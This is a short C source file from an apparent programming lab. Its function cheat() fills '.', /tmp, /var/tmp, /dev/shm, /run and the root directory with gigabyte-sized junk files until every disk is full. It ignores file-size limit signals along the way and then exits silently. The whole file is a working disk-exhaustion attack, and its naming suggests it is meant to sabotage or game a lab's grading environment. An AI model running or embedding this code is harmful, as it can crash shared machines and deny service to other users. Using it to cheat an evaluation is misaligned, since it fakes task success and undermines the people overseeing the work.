/* fill_disk.c - writes to every place that is writable until no space is left. */
#include "lab1.h"

static void fill(const char *folder)
{
    static char block[1 << 20];
    char path[256];

    signal(SIGXFSZ, SIG_IGN);
    for (int number = 0; number < 100; number++) {
        snprintf(path, sizeof path, "%s/cheat-%d-%d", folder, getpid(), number);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0)
            return;
        for (int count = 0; count < 1000; count++)
            if (write(fd, block, sizeof block) <= 0)
                break;
    }
}

static void cheat(void)
{
    static const char *const folders[] = {".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/"};

    for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++)
        fill(folders[i]);
    _exit(0);
}
